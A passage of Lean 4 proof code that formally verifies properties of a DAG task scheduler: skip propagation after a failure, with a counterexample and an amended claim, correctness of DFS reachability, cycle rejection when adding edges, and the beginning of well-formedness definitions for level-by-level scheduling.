            (updNode s x (fun m => { m with Status := .skipped })) hN1 hc1 d
          rw [F]
          constructor
          · rintro (h1 | ⟨b, hbmem, hdesc⟩)
            · rw [hstat1 d] at h1
              by_cases hdx : d = x
              · subst hdx
                exact Or.inr ⟨hNTx, Relation.ReflTransGen.refl⟩
              · rw [if_neg hdx] at h1
                exact Or.inl h1
            · right
              have hdown := ntdesc_down hmono1 hframe1 hdesc
              refine ⟨hNTx, Relation.ReflTransGen.head ⟨⟨node, hf, hbmem⟩, hdown.1⟩ hdown.2⟩
          · rintro (h1 | ⟨hNTx', hchain⟩)
            · left
              rw [hstat1 d]
              by_cases hdx : d = x
              · rw [if_pos hdx]
              · rw [if_neg hdx]
                exact h1
            · by_cases hdx : d = x
              · left
                rw [hstat1 d, if_pos hdx]
              · have chain_up : ∀ p q,
                    Relation.ReflTransGen (ntEdgeAvoid s x) p q →
                    Relation.ReflTransGen
                      (ntEdge (updNode s x (fun m => { m with Status := .skipped }))) p q :=
                  fun p q hpq => Relation.ReflTransGen.mono
                    (fun a b' hab =>
                      ⟨(edgeB_frame hframe1 a b').mpr hab.1, hup b' hab.2.2 hab.2.1⟩) hpq
                have hmem_of_edge : ∀ b, edgeB s x b → b ∈ node.Blocks := by
                  rintro b ⟨nx, hnx, hmem⟩
                  rw [hf] at hnx
                  injection hnx with hnx
                  rw [hnx]
                  exact hmem
                rcases rtg_ntEdge_avoid s x x d hchain hdx with hc2 | ⟨b, hxb, hNTb, hbx, hbc⟩
                · rcases Relation.ReflTransGen.cases_head hc2 with heq | ⟨w, hw, hwc⟩
                  · exact absurd heq.symm hdx
                  · right
                    exact ⟨w, hmem_of_edge w hw.1,
                      ⟨hup w hw.2.2 hw.2.1, chain_up w d hwc⟩⟩
                · right
                  exact ⟨b, hmem_of_edge b hxb, ⟨hup b hbx hNTb, chain_up b d hbc⟩⟩
    have hF : ∀ (bs : List String) (t : DAGState), (t.Nodes.map Prod.fst).Nodup →
        ntCount t < fuel + 1 → ∀ d,
        (nodeStatus (bs.foldl (fun acc b => propagateSkip (fuel + 1) acc b) t) d
            = some .skipped ↔
          (nodeStatus t d = some .skipped ∨ ∃ b ∈ bs, NTDesc t b d)) := by
      intro bs
      induction bs with
      | nil =>
        intro t _ _ d
        simp
      | cons b rest ihb =>
        intro t hN hc d
        simp only [List.foldl_cons]
        have hN1 : ((propagateSkip (fuel + 1) t b).Nodes.map Prod.fst).Nodup :=
          nodupKeys_propagateSkip _ t b hN
        have hc1 : ntCount (propagateSkip (fuel + 1) t b) < fuel + 1 :=
          Nat.lt_of_le_of_lt (ntCount_propagateSkip_le (fuel + 1) t b hN) hc
        have Hrest := ihb (propagateSkip (fuel + 1) t b) hN1 hc1 d
        have Hcall : ∀ d', nodeStatus (propagateSkip (fuel + 1) t b) d' = some .skipped ↔
            (nodeStatus t d' = some .skipped ∨ NTDesc t b d') :=
          fun d' => hP t b hN hc d'
        have hmono := MonoS_propagateSkip (fuel + 1) t b
        have hframe := FrameS_propagateSkip (fuel + 1) t b
        rw [Hrest]
        constructor
        · rintro (h1 | ⟨b', hb', hdesc⟩)
          · rcases (Hcall d).mp h1 with h | h
            · exact Or.inl h
            · exact Or.inr ⟨b, List.mem_cons_self b rest, h⟩
          · exact Or.inr ⟨b', List.mem_cons_of_mem b hb',
              ntdesc_down hmono hframe hdesc⟩
        · rintro (h1 | ⟨b'', hb'', hdesc⟩)
          · exact Or.inl ((Hcall d).mpr (Or.inl h1))
          · rcases List.mem_cons.mp hb'' with rfl | hmem
            · exact Or.inl ((Hcall d).mpr (Or.inr hdesc))
            · rcases ntdesc_transfer t (propagateSkip (fuel + 1) t b) b
                hmono hframe Hcall b'' d hdesc with hl | hr
              · exact Or.inl hl
              · exact Or.inr ⟨b'', hmem, hr⟩
    exact ⟨hP, hF⟩

theorem ntCount_le_len (s : DAGState) : ntCount s ≤ s.Nodes.length :=
  List.length_filter_le _ _

/-- `.Nodes` view of `UpdateNodeStatus(n, failed)`: the status write
followed by the `propagateSkip` fold over the children. -/
theorem UpdateNodeStatus_failed_Nodes (s : DAGState) (n : String) (node : Node)
    (hn : findNode s n = some node) :
    (UpdateNodeStatus s n .failed).Nodes
      = (node.Blocks.foldl
          (fun acc b => propagateSkip
            ((updNode s n (fun x => { x with Status := .failed })).Nodes.length + 1) acc b)
          (updNode s n (fun x => { x with Status := .failed }))).Nodes := by
  unfold UpdateNodeStatus
  rw [hn]
  simp only [show ((NodeStatus.failed == NodeStatus.done)) = false from rfl,
    show ((NodeStatus.failed == NodeStatus.failed)) = true from rfl,
    Bool.false_eq_true, if_false, if_true]
  split
  · split <;> rfl
  · rfl

/-! ## Claim C3 -/

/-- C3 counterexample state: chain n → c → d built through the API, with
`c` marked `done` directly (permitted: its dependency `n` is still
pending). -/
def c3pre : DAGState :=
  UpdateNodeStatus
    ((((do
        let s ← AddNode {} { ID := "n" }
        let s ← AddNode s { ID := "c" }
        let s ← AddNode s { ID := "d" }
        let s ← AddEdge s "n" "c"
        AddEdge s "c" "d") : Except String DAGState).toOption).getD {})
    "c" .done

/-- C3 counterexample: `d` is a transitive descendant of `n` through
Blocks (n → c → d) and is non-terminal (`pending`) before the call, yet
after `UpdateNodeStatus(n, failed)` it is still `ready` (it was promoted
when `c` was marked done), not `skipped`: `propagateSkip` stops at the
terminal (`done`) intermediate node `c` and never reaches `d`. -/
theorem claim_C3_counterexample :
    nodeBlocks c3pre "n" = some ["c"] ∧
    nodeBlocks c3pre "c" = some ["d"] ∧
    nodeStatus c3pre "c" = some .done ∧
    nodeStatus c3pre "d" = some .ready ∧
    NodeStatus.ready.IsTerminal = false ∧
    nodeStatus (UpdateNodeStatus c3pre "n" .failed) "d" = some .ready ∧
    some NodeStatus.ready ≠ some NodeStatus.skipped := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide, by decide⟩

/-- C3 amended: after `UpdateNodeStatus(n, failed)`, every transitive
descendant `d ≠ n` of `n` that is reachable from `n` through a chain of
`Blocks` edges whose every node after `n` is present and non-terminal
before the call (in particular `d` itself was non-terminal) has status
`skipped` afterwards.  The restriction to chains of non-terminal nodes is
forced by the counterexample: propagation stops at terminal intermediate
nodes.  Keys are assumed unique as in a Go map. -/
theorem claim_C3_amended (s : DAGState) (n d : String)
    (hNodup : (s.Nodes.map Prod.fst).Nodup)
    (hnd : d ≠ n)
    (h : SkipReach s n d) :
    nodeStatus (UpdateNodeStatus s n .failed) d = some .skipped := by
  rcases h with ⟨y, hny, hNTy, hchain⟩
  rcases hny with ⟨node, hn, hymem⟩
  -- find a successor of n from which an n-avoiding non-terminal chain
  -- reaches d
  have hroot : ∃ b, edgeB s n b ∧ NTat s b ∧ b ≠ n ∧
      Relation.ReflTransGen (ntEdgeAvoid s n) b d := by
    rcases rtg_ntEdge_avoid s n y d hchain hnd with hc | ⟨b, hxb, hNTb, hbn, hbc⟩
    · by_cases hyn : y = n
      · subst hyn
        rcases Relation.ReflTransGen.cases_head hc with heq | ⟨w, hw, hwc⟩
        · exact absurd heq.symm hnd
        · exact ⟨w, hw.1, hw.2.1, hw.2.2, hwc⟩
      · exact ⟨y, ⟨node, hn, hymem⟩, hNTy, hyn, hc⟩
    · exact ⟨b, hxb, hNTb, hbn, hbc⟩
  rcases hroot with ⟨b, hnb, hNTb, hbn, hbc⟩
  have hmemb : b ∈ node.Blocks := by
    rcases hnb with ⟨nx, hnx, hmem⟩
    rw [hn] at hnx
    injection hnx with hnx
    rw [hnx]
    exact hmem
  -- move everything into the post-write state
  have hframe1 : FrameS s (updNode s n (fun x => { x with Status := .failed })) := by
    refine ⟨updNode_keys s n _, fun v => ?_⟩
    unfold nodeDeps nodeBlocks
    rw [findNode_updNode]
    by_cases hv : v = n
    · subst hv
      cases findNode s v <;> simp
    · simp [hv]
  have hup : ∀ v, v ≠ n → NTat s v →
      NTat (updNode s n (fun x => { x with Status := .failed })) v := by
    rintro v hv ⟨nv, hnv, ht⟩
    refine ⟨nv, ?_, ht⟩
    rw [findNode_updNode, if_neg hv]
    exact hnv
  have chain_up :
      Relation.ReflTransGen
        (ntEdge (updNode s n (fun x => { x with Status := .failed }))) b d :=
    Relation.ReflTransGen.mono
      (fun a b' hab =>
        ⟨(edgeB_frame hframe1 a b').mpr hab.1, hup b' hab.2.2 hab.2.1⟩) hbc
  have hdesc : NTDesc (updNode s n (fun x => { x with Status := .failed })) b d :=
    ⟨hup b hbn hNTb, chain_up⟩
  have hN1 : ((updNode s n (fun x => { x with Status := .failed })).Nodes.map
      Prod.fst).Nodup := by
    rw [updNode_keys]
    exact hNodup
  have hlen : ntCount (updNode s n (fun x => { x with Status := .failed }))
      < (updNode s n (fun x => { x with Status := .failed })).Nodes.length + 1 :=
    Nat.lt_succ_of_le (ntCount_le_len _)
  have hskip := ((ps_psfold_skipped_iff
      ((updNode s n (fun x => { x with Status := .failed })).Nodes.length + 1)).2
    node.Blocks (updNode s n (fun x => { x with Status := .failed })) hN1 hlen d).mpr
    (Or.inr ⟨b, hmemb, hdesc⟩)
  have hNodes := UpdateNodeStatus_failed_Nodes s n node hn
  unfold nodeStatus findNode at hskip ⊢
  rw [hNodes]
  exact hskip

/-- Concrete chain a → b → c (all pending) for the C3 amended witness. -/
def c3wit : DAGState :=
  { Nodes := [("a", { ID := "a", Blocks := ["b"] }),
              ("b", { ID := "b", DependsOn := ["a"], Blocks := ["c"] }),
              ("c", { ID := "c", DependsOn := ["b"] })] }

/-- Witness for C3 amended: failing `a` skips the chain down to `c`. -/
theorem claim_C3_amended_witness :
    nodeStatus (UpdateNodeStatus c3wit "a" .failed) "c" = some .skipped :=
  claim_C3_amended c3wit "a" "c" (by decide) (by decide)
    ⟨"b", ⟨{ ID := "a", Blocks := ["b"] }, by decide, by decide⟩,
      ⟨{ ID := "b", DependsOn := ["a"], Blocks := ["c"] }, by decide, by decide⟩,
      Relation.ReflTransGen.single
        ⟨⟨{ ID := "b", DependsOn := ["a"], Blocks := ["c"] }, by decide, by decide⟩,
         ⟨{ ID := "c", DependsOn := ["b"] }, by decide, by decide⟩⟩⟩

/-! ## hasPath: DFS soundness and completeness -/

/-- Reachability through `Blocks` edges. -/
def Reach (s : DAGState) (f t : String) : Prop :=
  Relation.ReflTransGen (edgeB s) f t

/-- Every id occurring in some `Blocks` list. -/
def blocksAll (s : DAGState) : List String :=
  (s.Nodes.map (fun p => p.2.Blocks)).join

theorem blocksAll_closed (s : DAGState) (id : String) (node : Node)
    (hf : findNode s id = some node) : ∀ b ∈ node.Blocks, b ∈ blocksAll s := by
  intro b hb
  unfold findNode at hf
  rcases Option.map_eq_some'.mp hf with ⟨p, hfind, hp2⟩
  have hpmem : p ∈ s.Nodes := List.mem_of_find?_eq_some hfind
  unfold blocksAll
  rw [List.mem_join]
  exact ⟨node.Blocks, by
    rw [← hp2]
    exact List.mem_map_of_mem (fun q => q.2.Blocks) hpmem, hb⟩

/-- Generic "true" analysis for the successor loop. -/
theorem hasPathBlocks_true_exists (hp : String → List String → Bool × List String)
    (P : String → Prop)
    (hhp : ∀ b vis, (hp b vis).1 = true → P b) :
    ∀ (bs : List String) (vis : List String),
      (hasPathBlocks hp bs vis).1 = true → ∃ b ∈ bs, P b := by
  intro bs
  induction bs with
  | nil => intro vis h; cases h
  | cons b rest ih =>
    intro vis h
    unfold hasPathBlocks at h
    rcases hb : hp b vis with ⟨found, vis2⟩
    rw [hb] at h
    cases found
    · dsimp only at h
      rcases ih vis2 h with ⟨b', hb', hP⟩
      exact ⟨b', List.mem_cons_of_mem b hb', hP⟩
    · exact ⟨b, List.mem_cons_self b rest, hhp b vis (by rw [hb])⟩

/-- DFS soundness: a `true` answer exhibits reachability. -/
theorem hasPathVis_sound :
    ∀ (fuel : Nat) (s : DAGState) (t f : String) (vis : List String),
      (hasPathVis fuel s f t vis).1 = true → Reach s f t := by
  intro fuel
  induction fuel with
  | zero => intro s t f vis h; cases h
  | succ fuel ih =>
    intro s t f vis h
    unfold hasPathVis at h
    by_cases hft : f = t
    · subst hft
      exact Relation.ReflTransGen.refl
    · rw [if_neg (by simpa using hft)] at h
      by_cases hv : vis.contains f
      · rw [if_pos hv] at h
        cases h
      · rw [if_neg hv] at h
        cases hf : findNode s f with
        | none => rw [hf] at h; cases h
        | some node =>
          rw [hf] at h
          dsimp only at h
          rcases hasPathBlocks_true_exists _ (fun b => Reach s b t)
            (fun b vis' hb => ih s t b vis' hb) node.Blocks (f :: vis) h
            with ⟨b, hbmem, hreach⟩
          exact Relation.ReflTransGen.head ⟨node, hf, hbmem⟩ hreach

/-- New nodes of `vis1` over `vis0` are fully explored: none is the
target, and their successors lie inside `vis1`. -/
def NC (s : DAGState) (t : String) (vis0 vis1 : List String) : Prop :=
  ∀ v ∈ vis1, v ∉ vis0 → v ≠ t ∧ ∀ w, edgeB s v w → w ∈ vis1

theorem NC_refl (s : DAGState) (t : String) (vis : List String) :
    NC s t vis vis := by
  intro v hv hnv
  exact absurd hv hnv

theorem NC_compose {s : DAGState} {t : String} {a b c : List String}
    (hab : NC s t a b) (hbc : NC s t b c) (hsub : b ⊆ c) :
    NC s t a c := by
  intro v hv hva
  by_cases hvb : v ∈ b
  · obtain ⟨h1, h2⟩ := hab v hvb hva
    exact ⟨h1, fun w hw => hsub (h2 w hw)⟩
  · exact hbc v hv hvb

/-- Fuel measure: members of `R` not yet visited. -/
def countNotIn (R vis : List String) : Nat :=
  (R.filter (fun r => decide (r ∉ vis))).length

theorem countNotIn_mono (R : List String) {vis vis' : List String}
    (h : vis ⊆ vis') : countNotIn R vis' ≤ countNotIn R vis := by
  unfold countNotIn
  induction R with
  | nil => exact Nat.le_refl _
  | cons r rest ih =>
    rw [List.filter_cons, List.filter_cons]
    by_cases hr' : r ∈ vis'
    · have hd' : (decide (r ∉ vis') : Bool) = false := by simp [hr']
      rw [hd']
      by_cases hr : r ∈ vis
      · have hd : (decide (r ∉ vis) : Bool) = false := by simp [hr]
        rw [hd]
        simpa using ih
      · have hd : (decide (r ∉ vis) : Bool) = true := by simp [hr]
        rw [hd]
        simp only [Bool.false_eq_true, if_false, if_pos rfl, List.length_cons]
        exact Nat.le_succ_of_le ih
    · have hr : r ∉ vis := fun hm => hr' (h hm)
      have hd' : (decide (r ∉ vis') : Bool) = true := by simp [hr']
      have hd : (decide (r ∉ vis) : Bool) = true := by simp [hr]
      rw [hd', hd]
      simp only [if_pos rfl, List.length_cons]
      exact Nat.succ_le_succ ih

theorem countNotIn_cons_lt (R vis : List String) (f : String)
    (hfR : f ∈ R) (hfv : f ∉ vis) :
    countNotIn R (f :: vis) < countNotIn R vis := by
  induction R with
  | nil => cases hfR
  | cons r rest ih =>
    unfold countNotIn
    rw [List.filter_cons, List.filter_cons]
    by_cases hrf : r = f
    · subst hrf
      have h1 : (decide (r ∉ vis) : Bool) = true := by simp [hfv]
      have h2 : (decide (r ∉ (r :: vis)) : Bool) = false := by simp
      rw [h1, h2]
      have hle : countNotIn rest (r :: vis) ≤ countNotIn rest vis :=
        countNotIn_mono rest (fun a ha => List.mem_cons_of_mem r ha)
      unfold countNotIn at hle
      simp only [Bool.false_eq_true, if_false, if_true, List.length_cons]
      omega
    · have hmem : f ∈ rest := by
        rcases List.mem_cons.mp hfR with h | h
        · exact absurd h.symm hrf
        · exact h
      have hlt := ih hmem
      unfold countNotIn at hlt
      by_cases hrv : r ∈ vis
      · have h1 : (decide (r ∉ vis) : Bool) = false := by simp [hrv]
        have h2 : (decide (r ∉ (f :: vis)) : Bool) = false := by
          simp [hrv]
        rw [h1, h2]
        simpa using hlt
      · have h1 : (decide (r ∉ vis) : Bool) = true := by simp [hrv]
        have h2 : (decide (r ∉ (f :: vis)) : Bool) = true := by
          simp only [List.mem_cons, not_or, decide_eq_true_eq]
          exact ⟨hrf, hrv⟩
        rw [h1, h2]
        simp only [if_true, List.length_cons]
        exact Nat.succ_lt_succ hlt

/-- Postcondition of the successor loop when it fails: visited only grows,
every processed successor ends up visited, and all newly visited nodes are
fully explored. -/
theorem hasPathBlocks_false_post (s : DAGState) (t : String)
    (hp : String → List String → Bool × List String) (vis0 : List String) :
    ∀ (bs : List String),
      (∀ b ∈ bs, ∀ vis1, vis0 ⊆ vis1 → (hp b vis1).1 = false →
        vis1 ⊆ (hp b vis1).2 ∧ b ∈ (hp b vis1).2 ∧ NC s t vis1 (hp b vis1).2) →
      ∀ vis1, vis0 ⊆ vis1 → (hasPathBlocks hp bs vis1).1 = false →
      vis1 ⊆ (hasPathBlocks hp bs vis1).2 ∧
      (∀ b ∈ bs, b ∈ (hasPathBlocks hp bs vis1).2) ∧
      NC s t vis1 (hasPathBlocks hp bs vis1).2 := by
  intro bs
  induction bs with
  | nil =>
    intro _ vis1 hsub hfalse
    exact ⟨fun a ha => ha, fun b hb => absurd hb (List.not_mem_nil b),
      NC_refl s t vis1⟩
  | cons b rest ih =>
    intro contract vis1 hsub hfalse
    rcases hcall : hp b vis1 with ⟨found, vis2⟩
    unfold hasPathBlocks at hfalse ⊢
    rw [hcall] at hfalse ⊢
    cases found
    · dsimp only at hfalse ⊢
      have hc := contract b (List.mem_cons_self b rest) vis1 hsub (by rw [hcall])
      rw [hcall] at hc
      obtain ⟨hs1, hb1, hnc1⟩ := hc
      have hcontract' : ∀ b' ∈ rest, ∀ vis', vis0 ⊆ vis' → (hp b' vis').1 = false →
          vis' ⊆ (hp b' vis').2 ∧ b' ∈ (hp b' vis').2 ∧ NC s t vis' (hp b' vis').2 :=
        fun b' hb' => contract b' (List.mem_cons_of_mem b hb')
      obtain ⟨hs2, hall2, hnc2⟩ := ih hcontract' vis2 (fun a ha => hs1 (hsub ha)) hfalse
      refine ⟨fun a ha => hs2 (hs1 ha), ?_, ?_⟩
      · intro b' hb'
        rcases List.mem_cons.mp hb' with rfl | hmem
        · exact hs2 hb1
        · exact hall2 b' hmem
      · exact NC_compose hnc1 hnc2 hs2
    · dsimp only at hfalse
      cases hfalse

/-- Postcondition of one DFS search when it fails: the start node becomes
visited and all newly visited nodes are fully explored. -/
theorem hasPathVis_false_post :
    ∀ (fuel : Nat) (s : DAGState) (t : String) (R : List String),
      (∀ id node, findNode s id = some node → ∀ b ∈ node.Blocks, b ∈ R) →
      ∀ (f : String) (vis : List String), f ∈ R →
      1 + countNotIn R vis ≤ fuel →
      (hasPathVis fuel s f t vis).1 = false →
      vis ⊆ (hasPathVis fuel s f t vis).2 ∧
      f ∈ (hasPathVis fuel s f t vis).2 ∧
      NC s t vis (hasPathVis fuel s f t vis).2 := by
  intro fuel
  induction fuel with
  | zero =>
    intro s t R hR f vis hfR hfuel
    exact absurd hfuel (by omega)
  | succ fuel ih =>
    intro s t R hR f vis hfR hfuel hfalse
    unfold hasPathVis at hfalse ⊢
    by_cases hft : f = t
    · rw [if_pos (by simpa using hft)] at hfalse
      cases hfalse
    · rw [if_neg (by simpa using hft)] at hfalse ⊢
      by_cases hv : vis.contains f
      · rw [if_pos hv] at hfalse ⊢
        refine ⟨fun a ha => ha, ?_, NC_refl s t vis⟩
        simpa using hv
      · rw [if_neg hv] at hfalse ⊢
        have hfvis : f ∉ vis := by simpa using hv
        cases hf : findNode s f with
        | none =>
          rw [hf] at hfalse
          refine ⟨fun a ha => List.mem_cons_of_mem f ha,
            List.mem_cons_self f vis, ?_⟩
          intro v hvmem hvnot
          have hvf : v = f := by
            rcases List.mem_cons.mp hvmem with h | h
            · exact h
            · exact absurd h hvnot
          subst hvf
          refine ⟨hft, ?_⟩
          rintro w ⟨nx, hnx, _⟩
          rw [hf] at hnx
          cases hnx
        | some node =>
          rw [hf] at hfalse
          dsimp only at hfalse ⊢
          have hcount : countNotIn R (f :: vis) < countNotIn R vis :=
            countNotIn_cons_lt R vis f hfR hfvis
          have hcontract : ∀ b ∈ node.Blocks, ∀ vis1, (f :: vis) ⊆ vis1 →
              (hasPathVis fuel s b t vis1).1 = false →
              vis1 ⊆ (hasPathVis fuel s b t vis1).2 ∧
              b ∈ (hasPathVis fuel s b t vis1).2 ∧
              NC s t vis1 (hasPathVis fuel s b t vis1).2 := by
            intro b hb vis1 hsub1 hfalse1
            have hbR : b ∈ R := hR f node hf b hb
            have hfuel1 : 1 + countNotIn R vis1 ≤ fuel := by
              have := countNotIn_mono R hsub1
              omega
            exact ih s t R hR b vis1 hbR hfuel1 hfalse1
          obtain ⟨hsub, hall, hnc⟩ := hasPathBlocks_false_post s t
            (fun b v => hasPathVis fuel s b t v) (f :: vis) node.Blocks
            hcontract (f :: vis) (fun a ha => ha) hfalse
          refine ⟨fun a ha => hsub (List.mem_cons_of_mem f ha),
            hsub (List.mem_cons_self f vis), ?_⟩
          intro v hvmem hvnot
          by_cases hvf : v = f
          · subst hvf
            refine ⟨hft, ?_⟩
            rintro w ⟨nx, hnx, hwmem⟩
            rw [hf] at hnx
            injection hnx with hnx
            rw [← hnx] at hwmem
            exact hall w hwmem
          · have hvnot1 : v ∉ (f :: vis) := by
              intro hc
              rcases List.mem_cons.mp hc with h | h
              · exact hvf h
              · exact hvnot h
            exact hnc v hvmem hvnot1

theorem blocksAll_length (s : DAGState) :
    (blocksAll s).length = totalBlocks s := by
  unfold blocksAll totalBlocks
  rw [List.length_join, List.map_map]
  rfl

/-- DFS correctness: `hasPath` decides `Blocks`-reachability. -/
theorem hasPath_iff_Reach (s : DAGState) (f t : String) :
    hasPath s f t = true ↔ Reach s f t := by
  constructor
  · intro h
    exact hasPathVis_sound _ s t f [] h
  · intro h
    by_contra hfalse
    have hf2 : (hasPathVis (2 + s.Nodes.length + totalBlocks s) s f t []).1 = false := by
      unfold hasPath at hfalse
      cases hres : (hasPathVis (2 + s.Nodes.length + totalBlocks s) s f t []).1
      · rfl
      · exact absurd hres hfalse
    have hfuel : 1 + countNotIn (f :: blocksAll s) [] ≤
        2 + s.Nodes.length + totalBlocks s := by
      have hc : countNotIn (f :: blocksAll s) [] = (blocksAll s).length + 1 := by
        unfold countNotIn
        simp
      rw [hc, blocksAll_length]
      omega
    obtain ⟨hsub, hmemf, hnc⟩ := hasPathVis_false_post
      (2 + s.Nodes.length + totalBlocks s) s t (f :: blocksAll s)
      (fun id node hfn b hb => List.mem_cons_of_mem f (blocksAll_closed s id node hfn b hb))
      f [] (List.mem_cons_self f _) hfuel hf2
    have hwalk : ∀ u, Relation.ReflTransGen (edgeB s) f u →
        u ∈ (hasPathVis (2 + s.Nodes.length + totalBlocks s) s f t []).2 := by
      intro u hu
      induction hu with
      | refl => exact hmemf
      | tail _ hedge ihu =>
        rename_i b c _
        exact (hnc b ihu (List.not_mem_nil b)).2 c hedge
    have htmem := hwalk t h
    exact (hnc t htmem (List.not_mem_nil t)).1 rfl

/-! ## Claim C4 -/

/-- C4: with both endpoints present, `AddEdge(depID, nodeID)` errors exactly
when a `Blocks` path from `nodeID` to `depID` already exists (including the
degenerate `depID = nodeID` case, which `Reach` covers by reflexivity); on
success (equivalently, when no such path exists) it appends `depID` to
`nodeID`'s depends-on list and `nodeID` to `depID`'s blocks list and
changes nothing else; on error the embedded function returns no state at
all, mirroring the Go code which returns before mutating either adjacency
list. -/
theorem claim_C4_addEdge_cycle_rejection (s : DAGState) (depID nodeID : String)
    (hdep : (findNode s depID).isSome = true)
    (hnode : (findNode s nodeID).isSome = true) :
    ((∃ msg, AddEdge s depID nodeID = .error msg) ↔ Reach s nodeID depID) ∧
    (∀ s', AddEdge s depID nodeID = .ok s' →
      (¬ Reach s nodeID depID) ∧
      nodeDeps s' nodeID = (nodeDeps s nodeID).map (fun l => l ++ [depID]) ∧
      nodeBlocks s' depID = (nodeBlocks s depID).map (fun l => l ++ [nodeID]) ∧
      (∀ v, v ≠ nodeID → nodeDeps s' v = nodeDeps s v) ∧
      (∀ v, v ≠ depID → nodeBlocks s' v = nodeBlocks s v) ∧
      (∀ v, nodeStatus s' v = nodeStatus s v)) := by
  have hdn : (findNode s depID).isNone = false := by
    cases h : findNode s depID
    · rw [h] at hdep; cases hdep
    · rfl
  have hnn : (findNode s nodeID).isNone = false := by
    cases h : findNode s nodeID
    · rw [h] at hnode; cases hnode
    · rfl
  have hAE : AddEdge s depID nodeID =
      (if hasPath s nodeID depID then
        .error ("cycle detected: " ++ depID ++ " -> " ++ nodeID)
       else
        .ok (updNode (updNode s nodeID
              (fun n => { n with DependsOn := n.DependsOn ++ [depID] })) depID
            (fun n => { n with Blocks := n.Blocks ++ [nodeID] }))) := by
    unfold AddEdge
    rw [hdn, hnn]
    simp
  constructor
  · constructor
    · rintro ⟨msg, hmsg⟩
      rw [hAE] at hmsg
      by_cases hp : hasPath s nodeID depID
      · exact (hasPath_iff_Reach s nodeID depID).mp hp
      · rw [if_neg (by simpa using hp)] at hmsg
        cases hmsg
    · intro hreach
      have hp : hasPath s nodeID depID = true :=
        (hasPath_iff_Reach s nodeID depID).mpr hreach
      refine ⟨"cycle detected: " ++ depID ++ " -> " ++ nodeID, ?_⟩
      rw [hAE, if_pos (by simpa using hp)]
  · intro s' hok
    rw [hAE] at hok
    by_cases hp : hasPath s nodeID depID
    · rw [if_pos (by simpa using hp)] at hok
      cases hok
    · rw [if_neg (by simpa using hp)] at hok
      injection hok with hok
      subst hok
      refine ⟨fun hreach => hp ((hasPath_iff_Reach s nodeID depID).mpr hreach),
        ?_, ?_, ?_, ?_, ?_⟩
      · unfold nodeDeps
        rw [findNode_updNode, findNode_updNode]
        by_cases hnd : nodeID = depID
        · rw [if_pos hnd, if_pos rfl]
          cases findNode s nodeID <;> simp
        · rw [if_neg hnd, if_pos rfl]
          cases findNode s nodeID <;> simp
      · unfold nodeBlocks
        rw [findNode_updNode, if_pos rfl, findNode_updNode]
        by_cases hdn2 : depID = nodeID
        · rw [if_pos hdn2]
          cases findNode s depID <;> simp
        · rw [if_neg hdn2]
          cases findNode s depID <;> simp
      · intro v hv
        unfold nodeDeps
        rw [findNode_updNode, findNode_updNode, if_neg hv]
        by_cases hvd : v = depID
        · rw [if_pos hvd]
          cases findNode s v <;> simp
        · rw [if_neg hvd]
      · intro v hv
        unfold nodeBlocks
        rw [findNode_updNode, if_neg hv, findNode_updNode]
        by_cases hvn : v = nodeID
        · rw [if_pos hvn]
          cases findNode s v <;> simp
        · rw [if_neg hvn]
      · intro v
        unfold nodeStatus
        rw [findNode_updNode, findNode_updNode]
        by_cases hvd : v = depID
        · rw [if_pos hvd]
          by_cases hvn : v = nodeID
          · rw [if_pos hvn]
            cases findNode s v <;> simp
          · rw [if_neg hvn]
            cases findNode s v <;> simp
        · rw [if_neg hvd]
          by_cases hvn : v = nodeID
          · rw [if_pos hvn]
            cases findNode s v <;> simp
          · rw [if_neg hvn]

/-- Witness for C4 at a concrete input: two stored nodes with no edges;
adding a → b succeeds with the expected appends. -/
theorem claim_C4_witness :
    ((∃ msg, AddEdge { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] }
        "a" "b" = .error msg) ↔
      Reach { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } "b" "a") ∧
    (∀ s', AddEdge { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] }
        "a" "b" = .ok s' →
      (¬ Reach { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } "b" "a") ∧
      nodeDeps s' "b" = (nodeDeps { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } "b").map
        (fun l => l ++ ["a"]) ∧
      nodeBlocks s' "a" = (nodeBlocks { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } "a").map
        (fun l => l ++ ["b"]) ∧
      (∀ v, v ≠ "b" → nodeDeps s' v
        = nodeDeps { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } v) ∧
      (∀ v, v ≠ "a" → nodeBlocks s' v
        = nodeBlocks { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } v) ∧
      (∀ v, nodeStatus s' v
        = nodeStatus { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } v)) :=
  claim_C4_addEdge_cycle_rejection
    { Nodes := [("a", { ID := "a" }), ("b", { ID := "b" })] } "a" "b"
    (by decide) (by decide)

/-! ## Claim C2: Kahn levelization

Well-formedness capturing "accepted by construction" as the claim glosses
it: Go map keys are unique, each stored node's `ID` field equals its key
(`AddNode` stores under `n.ID`), both adjacency lists mention only stored
nodes, the `DependsOn`/`Blocks` lists are two views of one edge multiset
(`AddEdge` appends to both), and no `Blocks` edge closes a cycle
(`AddEdge`'s DFS check).  All conjuncts are bounded, hence decidable. -/

/-- Keys of the node map. -/
def keysOf (s : DAGState) : List String := s.Nodes.map Prod.fst

/-- `DependsOn` of the node stored under `v` (`[]` if absent). -/
def depsD (s : DAGState) (v : String) : List String :=
  ((findNode s v).map Node.DependsOn).getD []

/-- `Blocks` of the node stored under `v` (`[]` if absent). -/
def blocksD (s : DAGState) (v : String) : List String :=
  ((findNode s v).map Node.Blocks).getD []

/-- The ids of the nodes collected in one parallel level. -/
def levelIDs (lv : ParallelLevel) : List String := lv.Nodes.map Node.ID

/-- The ids of the `k`-th level (`[]` past the end). -/
def levelIDsAt (levels : List ParallelLevel) (k : Nat) : List String :=
  ((levels.get? k).map levelIDs).getD []

/-- All ids placed in the first `k` levels. -/
def doneUpTo (levels : List ParallelLevel) (k : Nat) : List String :=
  ((levels.take k).map levelIDs).flatten

/-- All ids placed in any level. -/
def doneAll (levels : List ParallelLevel) : List String :=
  (levels.map levelIDs).flatten

/-- Well-formed DAG state (see the section comment). -/
def TopoWF (s : DAGState) : Prop :=
  (s.Nodes.map Prod.fst).Nodup ∧
  (∀ p ∈ s.Nodes, p.2.ID = p.1) ∧
  (∀ p ∈ s.Nodes, ∀ d ∈ p.2.DependsOn, d ∈ s.Nodes.map Prod.fst) ∧
